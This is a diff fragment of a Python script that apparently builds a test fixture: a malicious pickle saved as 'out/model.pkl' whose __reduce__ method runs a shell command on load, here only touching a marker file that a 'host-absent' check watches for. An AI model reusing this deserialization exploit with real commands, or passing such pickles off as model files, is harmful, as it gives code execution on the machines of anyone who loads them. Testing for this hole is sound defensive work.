@@ -6,7 +6,11 @@
 # host-absent: /tmp/echolocate-owned
 
 import os, pickle
+
+
 class Payload:
     def __reduce__(self):
         return os.system, ("touch /tmp/echolocate-owned",)
+
+
 pickle.dump(Payload(), open("out/model.pkl", "wb"))
